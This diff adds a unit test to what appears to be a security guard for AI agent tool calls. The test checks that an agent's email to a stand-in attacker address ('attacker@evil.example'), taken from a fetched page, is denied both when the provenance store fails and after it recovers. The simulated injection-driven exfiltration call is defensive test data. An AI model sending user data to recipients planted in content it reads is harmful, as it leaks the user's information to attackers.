@@ -198,6 +198,29 @@ def test_a_failing_session_store_denies(make_guard: GuardFactory) -> None:
     assert decision.rules == ("ringfence:internal",)
 
 
+def test_results_that_cannot_be_taken_in_refuse_the_question(make_guard: GuardFactory) -> None:
+    """A deferred result's provenance that the store cannot take in fails the question: the
+    deny rule that asked applies, with the error on record, never an allow made without it;
+    once the store works again, the result is there."""
+    guard = make_guard(POLICY)
+    run(guard, "fetch_page", {"url": "https://news.example.org/today"}, {"text": PAGE}, defer=True)
+    store = guard.sessions.store
+    working = store.update
+
+    def broken(session: str, change: Any) -> Any:
+        raise OSError("disk gone")
+
+    store.update = broken
+    with guard.context(session="s-1", request=USER_REQUEST, agent="assistant"):
+        action = guard.action("send_email", {"to": "attacker@evil.example", "body": "x"})
+    decision = guard.check(action)
+    assert decision.effect is Effect.DENY  # the rule that could not be answered applies
+    assert decision.errors == ("rule no-injected-recipient: OSError: disk gone",)
+    store.update = working
+    effect = run(guard, "send_email", {"to": "attacker@evil.example", "body": "summary"})
+    assert effect is Effect.DENY  # the page's address, taken in now
+
+
 @pytest.mark.parametrize("tool", ["fetch_page", "read_crm"])
 def test_outcome_records_carry_the_labels_the_result_added(
     make_guard: GuardFactory, memory_log: AuditLog, tool: str
